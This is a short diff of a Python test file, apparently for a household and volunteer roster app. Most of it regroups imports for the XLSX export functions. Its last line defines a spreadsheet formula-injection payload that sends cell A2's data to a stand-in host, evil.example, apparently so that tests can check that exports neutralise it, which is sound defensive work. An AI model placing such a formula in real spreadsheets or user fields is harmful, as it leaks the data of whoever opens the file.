@@ -12,8 +12,14 @@ import pytest
 from openpyxl import load_workbook
 
 from app.services import volunteer_roster, volunteers
-from app.services.households import HouseholdData, HouseholdFilter, MemberData, create_household
-from app.services.roster_import import export_households_xlsx, write_xlsx
+from app.services.households import (
+    HouseholdData,
+    HouseholdFilter,
+    MemberData,
+    create_household,
+    export_households_xlsx,
+    write_xlsx,
+)
 from app.services.volunteers import VolunteerData
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
